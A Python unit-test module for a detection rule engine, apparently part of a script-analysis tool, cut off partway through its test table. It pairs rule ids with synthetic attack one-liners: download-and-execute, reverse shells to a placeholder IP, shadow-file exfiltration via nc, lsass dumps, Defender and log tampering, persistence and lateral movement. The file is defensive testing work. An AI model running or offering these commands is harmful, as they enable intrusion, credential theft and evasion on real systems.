"""Behaviour rules: every rule fires on its example, benign admin text stays quiet, ids and
ATT&CK references are valid, and no pattern can be made to backtrack past its time limit.

Every example is synthetic, written for these tests; none is taken from real malware.
"""

from __future__ import annotations

import re

import pytest

from tests.unit.scripts.rule_cases import (
    batch,
    powershell,
    pyscript,
    techniques_cloud,
    techniques_containers,
    techniques_unix,
    techniques_unix_credential,
    techniques_unix_evasion,
    techniques_unix_persistence,
    techniques_windows,
    techniques_windows_collection,
    techniques_windows_credential,
    techniques_windows_evasion,
    techniques_windows_execution,
    techniques_windows_hiding,
    techniques_windows_network,
    techniques_windows_persistence,
    techniques_windows_recon,
    techniques_windows_registry,
    unix,
    wsh,
)
from wingman.core.knowledge.attack import AttackCatalog
from wingman.core.models import Severity
from wingman.core.scripts.rules.catalog import FAMILIES, RULES, merge
from wingman.core.scripts.rules.engine import Rule, RuleSet, match_rules
from wingman.core.scripts.safe_regex import compile_pattern
from wingman.core.scripts.types import Lang, Layer
from wingman.core.scripts.verdict import SUSPICIOUS_AT, score

CASE_MODULES = (
    batch,
    powershell,
    pyscript,
    techniques_unix,
    techniques_unix_credential,
    techniques_unix_persistence,
    techniques_unix_evasion,
    techniques_cloud,
    techniques_containers,
    techniques_windows,
    techniques_windows_recon,
    techniques_windows_network,
    techniques_windows_credential,
    techniques_windows_evasion,
    techniques_windows_hiding,
    techniques_windows_persistence,
    techniques_windows_execution,
    techniques_windows_collection,
    techniques_windows_registry,
    unix,
    wsh,
)

PS = Lang.POWERSHELL
BAT = Lang.BATCH
SH = Lang.BASH
PY = Lang.PYTHON
JS = Lang.JAVASCRIPT
VBS = Lang.VBSCRIPT

BY_ID = {rule.id: rule for rule in RULES}
# Rules at or above this weight mean "malicious on their own"; benign text must not fire them.
HIGH_WEIGHT = 30

# (rule id, language of the layer, text that must fire the rule)
CORE_POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    # execution
    (
        "EXE-001",
        PS,
        '$wc = New-Object System.Net.WebClient; $wc.DownloadFile("http://198.51.100.7/a.exe",'
        ' "a.exe")',
    ),
    ("EXE-002", PS, "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')"),
    ("EXE-002", PS, "iwr http://198.51.100.7/x.ps1 -UseBasicParsing | iex"),
    ("EXE-002", BAT, 'powershell -c "Invoke-RestMethod http://198.51.100.7/s | Invoke-Expression"'),
    (
        "EXE-003",
        PS,
        r"Invoke-WebRequest -Uri http://198.51.100.7/tool.exe -OutFile $env:TEMP\tool.exe",
    ),
    (
        "EXE-004",
        PS,
        r"Start-BitsTransfer -Source http://198.51.100.7/a.exe -Destination C:\Users\Public\a.exe",
    ),
    ("EXE-005", SH, "curl -s http://198.51.100.7/i.sh | bash"),
    ("EXE-005", SH, "wget -qO- http://198.51.100.7/i.sh | sudo sh"),
    ("EXE-005", SH, 'bash -c "$(curl -fsSL http://198.51.100.7/i.sh)"'),
    ("EXE-005", PY, 'os.system("curl -s http://198.51.100.7/x | python3")'),
    ("EXE-006", SH, "cd /tmp; wget http://198.51.100.7/bot; chmod +x bot; ./bot"),
    (
        "EXE-006",
        SH,
        "curl -s http://198.51.100.7/k -o /dev/shm/k && chmod 755 /dev/shm/k && /dev/shm/k",
    ),
    (
        "EXE-007",
        VBS,
        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://198.51.100.7/p.exe", False\n'
        'x.Send\nSet s = CreateObject("ADODB.Stream")\ns.Open\ns.Type = 1\ns.Write x.ResponseBody\n'
        's.SaveToFile "C:\\Users\\Public\\p.exe", 2',
    ),
    (
        "EXE-007",
        JS,
        'var h = new ActiveXObject("WinHttp.WinHttpRequest.5.1"); h.Open("GET", u, false);'
        ' h.Send();\nvar s = new ActiveXObject("ADODB.Stream"); s.Write(h.ResponseBody);'
        " s.SaveToFile(p, 2);",
    ),
    (
        "EXE-008",
        PY,
        'import urllib.request\nexec(urllib.request.urlopen("http://198.51.100.7/s.py").read())',
    ),
    ("EXE-008", PY, 'import requests\nr = requests.get("http://198.51.100.7/s")\nexec(r.text)'),
    ("EXE-009", PS, "$a = [System.Reflection.Assembly]::Load($bytes)"),
    ("EXE-010", PS, "[Reflection.Assembly]::Load([Convert]::FromBase64String($blob))"),
    (
        "EXE-011",
        PS,
        "$mem = $k::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)\n"
        "[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $mem, $sc.Length)\n"
        "$k::CreateThread(0, 0, $mem, 0, 0, 0)",
    ),
    (
        "EXE-011",
        VBS,
        "addr = VirtualAlloc(0, 4096, &H3000, &H40)\nRtlMoveMemory addr, buf(0), 4096",
    ),
    (
        "EXE-012",
        PY,
        "import ctypes\nptr = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)",
    ),
    (
        "EXE-012",
        PY,
        "import ctypes, mmap\nm = mmap.mmap(-1, len(sc), prot=mmap.PROT_READ | mmap.PROT_EXEC)",
    ),
    (
        "EXE-013",
        PS,
        'Add-Type -TypeDefinition @"\nusing System.Runtime.InteropServices;\npublic class K {\n'
        '  [DllImport("kernel32.dll")] public static extern IntPtr GetConsoleWindow();\n}\n"@',
    ),
    (
        "EXE-014",
        PS,
        '$addr = $u.GetProcAddress($h, "VirtualAlloc")\n'
        "$fn = [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($addr, $t)",
    ),
    (
        "EXE-015",
        JS,
        'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", u, false); x.send();'
        " eval(x.responseText);",
    ),
    ("EXE-015", JS, "fetch(u).then(r => r.text()).then(eval)"),
    ("EXE-016", VBS, 'http.Open "GET", u, False\nhttp.Send\nExecute(http.responseText)'),
    ("EXE-017", VBS, 'CreateObject("WScript.Shell").Run "powershell -nop -c Get-Date", 1'),
    (
        "EXE-017",
        JS,
        'new ActiveXObject("Shell.Application").ShellExecute("cmd.exe", "/c calc", "", "open", 0);',
    ),
    (
        "EXE-018",
        VBS,
        'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create("calc.exe", Null, Null,'
        " pid)",
    ),
    (
        "EXE-018",
        PS,
        "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments"
        ' @{CommandLine="calc"}',
    ),
    (
        "EXE-019",
        JS,
        'var fmt = new ActiveXObject("System.Runtime.Serialization.Formatters.Binary.BinaryForm'
        'atter");\nvar d = fmt.Deserialize_2(stm);',
    ),
    (
        "EXE-020",
        JS,
        'const { exec } = require("child_process");\nexec("powershell -nop -enc SQBFAFgA");',
    ),
    # evasion
    (
        "EVA-001",
        PS,
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFail"
        "ed','NonPublic,Static').SetValue($null,$true)",
    ),
    ("EVA-002", PS, '$p = $k::GetProcAddress($h, "AmsiScanBuffer")'),
    (
        "EVA-003",
        PS,
        "$f = [Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider')",
    ),
    ("EVA-003", PY, 'addr = kernel32.GetProcAddress(ntdll, b"EtwEventWrite")'),
    (
        "EVA-004",
        PS,
        '$s = [Ref].Assembly.GetType("System.Management.Automation.Utils").GetField("cachedGr'
        'oupPolicySettings", "NonPublic,Static")',
    ),
    (
        "EVA-004",
        BAT,
        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging /v"
        r" EnableScriptBlockLogging /t REG_DWORD /d 0 /f",
    ),
    ("EVA-005", BAT, "powershell.exe -ep bypass -file run.ps1"),
    ("EVA-005", PS, "Set-ExecutionPolicy Bypass -Scope Process -Force"),
    ("EVA-005", BAT, "powershell -ExecutionPolicy Unrestricted -File x.ps1"),
    ("EVA-006", BAT, 'powershell -w hidden -c "Get-Date"'),
    ("EVA-006", PS, "Start-Process powershell -WindowStyle Hidden -ArgumentList $a"),
    ("EVA-007", VBS, 'WScript.CreateObject("WScript.Shell").Run "cmd /c payload.bat", 0, False'),
    ("EVA-007", JS, 'sh.Run("cmd /c job.bat", 0, true);'),
    ("EVA-008", PS, "$psi = New-Object Diagnostics.ProcessStartInfo\n$psi.CreateNoWindow = $true"),
    ("EVA-009", PS, "Set-MpPreference -DisableRealtimeMonitoring $true"),
    ("EVA-009", BAT, 'powershell -c "Set-MpPreference -DisableIOAVProtection 1"'),
    (
        "EVA-010",
        BAT,
        r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t'
        r" REG_DWORD /d 1 /f",
    ),
    ("EVA-011", BAT, "sc stop WinDefend"),
    ("EVA-011", BAT, "sc config WinDefend start= disabled"),
    ("EVA-012", PS, r'Add-MpPreference -ExclusionPath "C:\Users\Public"'),
    ("EVA-013", BAT, "wevtutil cl Security"),
    ("EVA-013", PS, "Clear-EventLog -LogName Application, System"),
    ("EVA-014", BAT, "net stop eventlog /y"),
    ("EVA-014", BAT, "auditpol /clear /y"),
    ("EVA-015", SH, "unset HISTFILE; history -c"),
    ("EVA-015", SH, "rm -f ~/.bash_history"),
    ("EVA-015", SH, "export HISTFILESIZE=0"),
    ("EVA-016", PS, "Remove-Item (Get-PSReadlineOption).HistorySavePath -Force"),
    ("EVA-017", SH, "rm -f /var/log/wtmp /var/log/btmp"),
    ("EVA-017", SH, "echo > /var/log/auth.log"),
    ("EVA-018", BAT, "netsh advfirewall set allprofiles state off"),
    ("EVA-018", PS, "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False"),
    ("EVA-019", BAT, r"netsh firewall add allowedprogram C:\Users\Public\svc.exe svc ENABLE"),
    ("EVA-020", SH, "iptables -F; ufw disable"),
    ("EVA-021", SH, "setenforce 0"),
    ("EVA-022", SH, "/usr/local/qcloud/stargate/admin/uninstall.sh"),
    ("EVA-022", SH, "pkill -9 -f AliYunDun"),
    (
        "EVA-023",
        PS,
        r"(Get-Item $f).LastWriteTime = (Get-Item C:\Windows\notepad.exe).LastWriteTime",
    ),
    ("EVA-024", SH, "touch -r /bin/ls /usr/bin/.helper"),
    ("EVA-024", SH, "touch -t 201901010000 /usr/bin/.helper"),
    ("EVA-025", BAT, r"attrib +h +s C:\Users\Public\svc.exe"),
    ("EVA-025", VBS, "f.Attributes = f.Attributes + 2"),
    (
        "EVA-026",
        BAT,
        r"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t"
        r" REG_DWORD /d 0 /f",
    ),
    ("EVA-027", SH, "chattr +i /root/.ssh/authorized_keys"),
    ("EVA-028", BAT, 'del "%~f0"'),
    ("EVA-028", PS, "Remove-Item $MyInvocation.MyCommand.Path -Force"),
    ("EVA-028", VBS, "fso.DeleteFile WScript.ScriptFullName"),
    ("EVA-029", PS, 'if ((Get-WmiObject Win32_ComputerSystem).Model -match "VirtualBox") { exit }'),
    ("EVA-030", BAT, 'powershell.exe -version 2 -nop -c "Get-Date"'),
    # obfuscation
    ("OBF-001", BAT, "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
    ("OBF-001", VBS, 'sh.Run "powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A", 0'),
    ("OBF-002", PS, "$b = [System.Convert]::FromBase64String($s)"),
    ("OBF-003", PS, "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))"),
    ("OBF-004", PS, "&($env:ComSpec[4,15,25]-join'') $payload"),
    ("OBF-004", PS, "&($ShellId[1]+$ShellId[13]+'x') $payload"),
    (
        "OBF-005",
        PS,
        "$s = New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String("
        "$d), [IO.Compression.CompressionMode]::Decompress)",
    ),
    ("OBF-006", PS, "$c = [char]73+[char]69+[char]88"),
    ("OBF-006", PS, "$s = -join [char[]](105,101,120,32,36,120)"),
    ("OBF-007", PS, "$o = Ne`w-Ob`je`ct Net.WebClient"),
    ("OBF-008", PS, "$r = -join $s[-1..-($s.Length)]"),
    ("OBF-008", JS, 'var c = s.split("").reverse().join("");'),
    ("OBF-008", VBS, 's = StrReverse("exe.clac")'),
    ("OBF-009", JS, "eval(String.fromCharCode(97,108,101,114,116,40,49,41))"),
    ("OBF-010", VBS, "s = Chr(112) & Chr(111) & Chr(119) & Chr(101)"),
    ("OBF-011", PY, "cmd = chr(105)+chr(100)+chr(32)"),
    ("OBF-011", PY, "s = ''.join(map(chr, [105, 100]))"),
    ("OBF-012", PY, 'exec(base64.b64decode("cHJpbnQoMSk="))'),
    ("OBF-012", PY, "exec(marshal.loads(zlib.decompress(blob)))"),
    ("OBF-013", SH, "echo Y2F0IC9ldGMvaG9zdHM= | base64 -d | bash"),
    ("OBF-013", SH, 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"'),
    ("OBF-014", VBS, "#@~^DgAAAA==v+.$SkD,JX@#@&"),
    ("OBF-015", BAT, r"cscript //nologo //E:jscript C:\Users\Public\readme.txt"),
    # persistence
    (
        "PER-001",
        BAT,
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d"
        r' "C:\Users\Public\u.exe" /f',
    ),
    (
        "PER-001",
        VBS,
        r'sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd", "wscript.exe'
        r' C:\u.vbs"',
    ),
    (
        "PER-001",
        PY,
        "key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,"
        ' r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\n'
        'winreg.SetValueEx(key, "upd", 0, winreg.REG_SZ, path)',
    ),
    (
        "PER-001",
        PS,
        r'Set-ItemProperty -Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\RunOnce" -Name'
        r" u -Value $p",
    ),
    (
        "PER-002",
        BAT,
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /d'
        r' "C:\Windows\system32\userinit.exe,C:\Users\Public\u.exe" /f',
    ),
    (
        "PER-003",
        BAT,
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution'
        r' Options\notepad.exe" /v Debugger /d "C:\Users\Public\d.exe" /f',
    ),
    (
        "PER-004",
        BAT,
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows" /v AppInit_DLLs /d'
        r" C:\Users\Public\h.dll /f",
    ),
    (
        "PER-005",
        BAT,
        r"reg add HKCU\Environment /v UserInitMprLogonScript /d C:\Users\Public\l.bat /f",
    ),
    ("PER-006", BAT, r"schtasks /create /tn Updater /tr C:\Users\Public\u.exe /sc daily"),
    ("PER-006", PS, "Register-ScheduledTask -TaskName Updater -Action $a -Trigger $t"),
    (
        "PER-007",
        BAT,
        r'schtasks /create /tn Sync /sc minute /mo 5 /tr "powershell -w hidden -f'
        r' C:\ProgramData\s.ps1"',
    ),
    (
        "PER-007",
        PS,
        r'$a = New-ScheduledTaskAction -Execute "mshta.exe" -Argument "C:\ProgramData\a.hta"',
    ),
    ("PER-008", BAT, r'sc create Updater binPath= "C:\Users\Public\svc.exe" start= auto'),
    ("PER-008", PS, r'New-Service -Name Updater -BinaryPathName "C:\Users\Public\svc.exe"'),
    (
        "PER-009",
        BAT,
        r'sc create Updater binPath= "cmd.exe /c C:\Users\Public\run.bat" start= auto',
    ),
    (
        "PER-010",
        PS,
        r"$f = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments"
        r" @{Name='f'; Query='SELECT * FROM __InstanceModificationEvent WITHIN 60'}",
    ),
    ("PER-010", VBS, 'Set c = svc.Get("CommandLineEventConsumer").SpawnInstance_'),
    ("PER-011", BAT, r'copy u.exe "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\u.exe"'),
    ("PER-011", VBS, 'p = sh.SpecialFolders("Startup") & "\\u.lnk"'),
    ("PER-012", SH, '(crontab -l 2>/dev/null; echo "@reboot /opt/app/run.sh") | crontab -'),
    ("PER-012", SH, "echo '0 3 * * * root /opt/app/job.sh' > /etc/cron.d/job"),
    ("PER-013", SH, 'echo "*/5 * * * * curl -fsSL http://198.51.100.7/s.sh | sh" >> /etc/crontab'),
    (
        "PER-013",
        SH,
        "(crontab -l; echo \"* * * * * /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444"
        " 0>&1'\") | crontab -",
    ),
    (
        "PER-014",
        SH,
        "cat > /etc/systemd/system/updater.service <<EOF\n[Service]\nExecStart=/opt/u\nEOF",
    ),
    ("PER-014", SH, "cp u.service ~/.config/systemd/user/u.service"),
    ("PER-015", SH, "systemctl enable updater.service"),
    ("PER-016", SH, "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"),
    ("PER-017", SH, 'echo "bash -i >& /dev/tcp/198.51.100.7/443 0>&1" >> ~/.bashrc'),
    ("PER-017", SH, "echo 'curl -s http://198.51.100.7/x | sh' >> /etc/profile"),
    ("PER-017", SH, "echo \"alias sudo='/tmp/.s'\" >> ~/.zshrc"),
    ("PER-018", PS, r"Add-Content -Path $PROFILE -Value 'iex (gc C:\ProgramData\p.ps1 -Raw)'"),
    (
        "PER-019",
        SH,
        'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample op" >> /root/.ssh/authorized_keys',
    ),
    ("PER-020", SH, "launchctl load ~/Library/LaunchAgents/com.apple.updater.plist"),
    ("PER-021", SH, "echo /usr/lib/libhide.so > /etc/ld.so.preload"),
    ("PER-022", BAT, "net user support P@ssw0rd1 /add"),
    ("PER-022", SH, "useradd -m -s /bin/bash helper"),
    ("PER-023", BAT, "net localgroup administrators support /add"),
    ("PER-023", SH, "echo 'helper ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
    ("PER-024", BAT, r"bitsadmin /SetNotifyCmdLine job1 C:\Users\Public\u.exe NULL"),
    ("PER-025", BAT, r"copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe"),
    ("PER-026", BAT, r"netsh add helper C:\Users\Public\helper.dll"),
    (
        "PER-027",
        VBS,
        'Set lnk = sh.CreateShortcut(startup & "\\upd.lnk")\nlnk.TargetPath ='
        ' "powershell.exe"\nlnk.Save',
    ),
    # privilege escalation
    ("PRV-001", PS, r'New-Item "HKCU:\Software\Classes\ms-settings\Shell\Open\command" -Force'),
    ("PRV-002", BAT, r'mkdir "\\?\C:\Windows \System32"'),
    ("PRV-003", PS, r'Start-Process "C:\Windows\System32\fodhelper.exe" -WindowStyle Hidden'),
    ("PRV-004", SH, "find / -perm -4000 -type f 2>/dev/null"),
    ("PRV-004", SH, "sudo -l"),
    ("PRV-005", SH, "cp /bin/bash /tmp/.sh && chmod u+s /tmp/.sh"),
    ("PRV-006", PS, "[Advapi32]::ImpersonateLoggedOnUser($hToken)"),
    ("PRV-007", BAT, r"JuicyPotato.exe -l 1337 -p c:\windows\system32\cmd.exe -t *"),
    ("PRV-008", BAT, 'sc config upnphost binpath= "net localgroup administrators user1 /add"'),
    ("PRV-009", SH, "gcc pwnkit.c -o /tmp/pk && /tmp/pk"),
    # credential access
    ("CRD-001", BAT, r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\l.dmp"),
    (
        "CRD-001",
        BAT,
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Users\Public\l.dmp full",
    ),
    ("CRD-001", PS, r"Out-Minidump -Process (Get-Process lsass) -DumpFilePath C:\Users\Public"),
    (
        "CRD-002",
        PS,
        "$proc = Get-Process lsass\n[Dbg]::MiniDumpWriteDump($proc.Handle, $proc.Id,"
        " $fs.SafeFileHandle, 2, 0, 0, 0)",
    ),
    ("CRD-003", PS, 'Invoke-Mimikatz -Command \'"privilege::debug" "sekurlsa::logonpasswords"\''),
    ("CRD-004", BAT, 'tool.exe "lsadump::sam" exit'),
    ("CRD-005", SH, "python3 secretsdump.py corp/admin@10.0.0.5"),
    (
        "CRD-006",
        BAT,
        "tool.exe kerberos::golden /user:Administrator /domain:corp.local /sid:S-1-5-21-1 /ptt",
    ),
    ("CRD-007", BAT, r"reg save hklm\sam C:\Users\Public\sam.save"),
    ("CRD-008", BAT, r'ntdsutil "ac i ntds" "ifm" "create full C:\Users\Public\n" q q'),
    (
        "CRD-008",
        BAT,
        r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit"
        r" C:\Users\Public\n.dit",
    ),
    ("CRD-009", SH, "cat /etc/shadow | nc 198.51.100.7 9000"),
    (
        "CRD-010",
        PY,
        'p = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data",'
        ' "Default", "Login Data")',
    ),
    ("CRD-010", PY, 'key = json.loads(state)["os_crypt"]["encrypted_key"]'),
    (
        "CRD-011",
        PS,
        r'Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Network\Cookies"'
        r" $env:TEMP\c.db",
    ),
    (
        "CRD-012",
        PS,
        "(New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll() | % {"
        " $_.RetrievePassword() }",
    ),
    ("CRD-012", BAT, 'vaultcmd /listcreds:"Windows Credentials" /all'),
    ("CRD-013", BAT, 'netsh wlan show profile name="Office" key=clear'),
    ("CRD-014", PS, "Invoke-Kerberoast -OutputFormat Hashcat | Out-File h.txt"),
    ("CRD-014", BAT, "Rubeus.exe kerberoast /outfile:h.txt"),
    ("CRD-015", SH, "GetNPUsers.py corp.local/ -usersfile users.txt -no-pass"),
    (
        "CRD-016",
        PS,
        '$c = $Host.UI.PromptForCredential("Windows Security", "Enter your password",'
        ' $env:USERNAME, "")',
    ),
    (
        "CRD-016",
        SH,
        'osascript -e \'display dialog "Password:" default answer "" with hidden answer\'',
    ),
    (
        "CRD-017",
        PS,
        '[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int vKey);',
    ),
    ("CRD-018", PY, "from pynput.keyboard import Listener"),
    ("CRD-019", BAT, "findstr /si password *.xml *.ini *.txt"),
    ("CRD-019", SH, "grep -ri password /etc /home 2>/dev/null"),
    ("CRD-020", PS, "Get-GPPPassword | Out-File gpp.txt"),
    ("CRD-021", SH, "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("CRD-022", BAT, "lazagne.exe all -oN"),
    ("CRD-023", PY, 'p = roaming + "\\\\discord\\\\Local Storage\\\\leveldb"'),
    ("CRD-023", PY, 'tokens = re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", data)'),
    # discovery
    ("DSC-001", BAT, "whoami /all"),
    ("DSC-002", BAT, "net user /domain"),
    ("DSC-003", BAT, 'net group "Domain Admins" /domain'),
    ("DSC-004", BAT, "nltest /dclist:corp.local"),
    ("DSC-018", BAT, "nltest /domain_trusts /all_trusts"),
    ("DSC-018", BAT, 'dsquery * -filter "(objectClass=trustedDomain)" -attr *'),
    ("DSC-018", PS, "Get-ADTrust -Filter *"),
    ("DSC-005", BAT, r"systeminfo > %TEMP%\si.txt"),
    ("DSC-006", BAT, "ipconfig /all"),
    ("DSC-006", BAT, "arp -a"),
    ("DSC-007", BAT, "netstat -ano"),
    ("DSC-008", PS, "Get-ADUser -Filter * -Properties *"),
    ("DSC-009", BAT, 'AdFind.exe -f "objectcategory=computer" > ad.txt'),
    ("DSC-009", PS, "Invoke-BloodHound -CollectionMethod All"),
    ("DSC-010", SH, "uname -a; id; cat /etc/passwd"),
    (
        "DSC-011",
        SH,
        'for p in {1..1024}; do (echo > /dev/tcp/10.0.0.5/$p) 2>/dev/null && echo "$p open"; done',
    ),
    (
        "DSC-011",
        PS,
        "1..1024 | % { $t = New-Object Net.Sockets.TcpClient; $t.Connect('10.0.0.5', $_) }",
    ),
    ("DSC-011", PY, "for port in range(1, 1025):\n    r = s.connect_ex((host, port))"),
    ("DSC-012", SH, "nmap -sS -p- 10.0.0.0/24"),
    ("DSC-019", SH, "sudo nmap -sS 10.20.0.0/16 -p 445"),
    ("DSC-019", BAT, "masscan -p80,443 192.0.2.1-254 --rate 1000"),
    ("DSC-013", PS, "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntiVirusProduct"),
    ("DSC-014", BAT, r"net view \\fileserver /all"),
    ("DSC-015", BAT, "net user"),
    ("DSC-016", BAT, 'for /L %i in (1,1,254) do @ping -n 1 -w 100 10.0.0.%i | find "TTL="'),
    ("DSC-016", SH, "for i in {1..254}; do ping -c 1 -W 1 10.0.0.$i & done"),
    ("DSC-017", SH, "curl -L https://example.test/linpeas.sh | sh"),
    # lateral movement
    ("LAT-001", BAT, r"psexec.exe \\10.0.0.5 -u corp\admin -p Passw0rd -s cmd.exe"),
    ("LAT-002", SH, "python3 wmiexec.py corp/admin:Passw0rd@10.0.0.5"),
    (
        "LAT-003",
        BAT,
        r'wmic /node:10.0.0.5 /user:admin /password:x process call create "cmd /c C:\t.bat"',
    ),
    (
        "LAT-004",
        PS,
        "Invoke-WmiMethod -ComputerName srv01 -Class Win32_Process -Name Create -ArgumentList"
        ' "calc.exe"',
    ),
    ("LAT-005", PS, "Invoke-Command -ComputerName srv01 -ScriptBlock { Get-Service }"),
    ("LAT-005", BAT, "winrs -r:srv01 ipconfig"),
    ("LAT-006", SH, "sshpass -p 'Passw0rd' ssh root@10.0.0.5 'id'"),
    ("LAT-007", SH, 'ssh -o BatchMode=yes admin@10.0.0.5 "uptime"'),
    (
        "LAT-008",
        SH,
        "for h in $(awk '{print $1}' ~/.ssh/known_hosts | cut -d, -f1); do\n"
        '  ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@$h "curl -s'
        ' http://198.51.100.7/x.sh | sh" &\ndone',
    ),
    ("LAT-009", BAT, r"net use \\10.0.0.5\ADMIN$ /user:corp\admin Passw0rd"),
    ("LAT-010", BAT, "copy payload.exe \\\\10.0.0.5\\C$\\Windows\\Temp\\"),
    ("LAT-011", SH, "scp ./tool user@10.0.0.5:/tmp/"),
    (
        "LAT-012",
        BAT,
        r'reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections'
        r" /t REG_DWORD /d 0 /f",
    ),
    ("LAT-013", BAT, "tscon 2 /dest:rdp-tcp#0"),
    ("LAT-014", SH, "crackmapexec smb 10.0.0.0/24 -u admin -H aad3b435b51404eeaad3b435b51404ee"),
    (
        "LAT-015",
        PS,
        '$c = [Activator]::CreateInstance([Type]::GetTypeFromProgID("MMC20.Application",'
        ' "10.0.0.5"))',
    ),
    ("LAT-016", BAT, r'sc \\10.0.0.5 create upd binPath= "C:\Windows\Temp\u.exe"'),
    (
        "LAT-017",
        BAT,
        r"schtasks /create /s 10.0.0.5 /tn upd /tr C:\Windows\Temp\u.exe /sc once /st 00:00",
    ),
    # living off the land
    ("LOL-001", BAT, "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe"),
    ("LOL-002", BAT, "certutil -decode enc.txt payload.exe"),
    ("LOL-003", BAT, "mshta http://198.51.100.7/a.hta"),
    (
        "LOL-003",
        BAT,
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")',
    ),
    ("LOL-023", BAT, 'mshta "javascript:alert(document.title);close()"'),
    ("LOL-004", BAT, r"mshta C:\Users\Public\update.hta"),
    ("LOL-005", BAT, "regsvr32 /s /n /u /i:http://198.51.100.7/file.sct scrobj.dll"),
    ("LOL-006", BAT, 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)'),
    ("LOL-007", BAT, r"rundll32.exe url.dll,FileProtocolHandler C:\Users\Public\a.exe"),
    ("LOL-008", BAT, r"rundll32.exe %APPDATA%\sys.dll,Start"),
    (
        "LOL-009",
        BAT,
        r"bitsadmin /transfer job /download /priority high http://198.51.100.7/a.exe"
        r" C:\Users\Public\a.exe",
    ),
    ("LOL-010", BAT, "msiexec /q /i http://198.51.100.7/p.msi"),
    ("LOL-011", BAT, r'wmic process call create "C:\Users\Public\a.exe"'),
    ("LOL-012", BAT, 'wmic os get /format:"http://198.51.100.7/evil.xsl"'),
    (
        "LOL-013",
        BAT,
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile="
        r" /LogToConsole=false /U C:\Users\Public\a.dll",
    ),
    ("LOL-014", BAT, r"regasm.exe /U C:\Users\Public\a.dll"),
    ("LOL-015", BAT, r"odbcconf /a {REGSVR C:\Users\Public\a.dll}"),
    ("LOL-016", BAT, r"cmstp.exe /ni /s C:\Users\Public\p.inf"),
    (
        "LOL-017",
        BAT,
        r'forfiles /p C:\Windows\System32 /m notepad.exe /c "cmd /c powershell -nop -c Get-Date"',
    ),
    ("LOL-018", BAT, r"pcalua.exe -a C:\Users\Public\a.exe"),
    ("LOL-018", BAT, 'SyncAppvPublishingServer.vbs "n; Start-Process calc"'),
    (
        "LOL-019",
        BAT,
        r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\msbuild.exe C:\Users\Public\build.xml",
    ),
    ("LOL-020", BAT, r"csc.exe /target:exe /out:%TEMP%\a.exe %TEMP%\a.cs"),
    ("LOL-021", BAT, r"esentutl.exe /y \\198.51.100.7@SSL\DavWWWRoot\a.exe /d a.exe /o"),
    ("LOL-022", BAT, "hh.exe http://198.51.100.7/help.chm"),
    # command and control
    ("C2-001", SH, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
    ("C2-001", SH, "sh -i 5<> /dev/tcp/198.51.100.7/80 0<&5 1>&5 2>&5"),
    ("C2-002", SH, "exec 5<>/dev/tcp/198.51.100.7/80"),
    ("C2-003", SH, "nc -e /bin/sh 198.51.100.7 4444"),
    ("C2-003", BAT, r"C:\Users\Public\nc.exe 198.51.100.7 443 -e cmd.exe"),
    (
        "C2-004",
        SH,
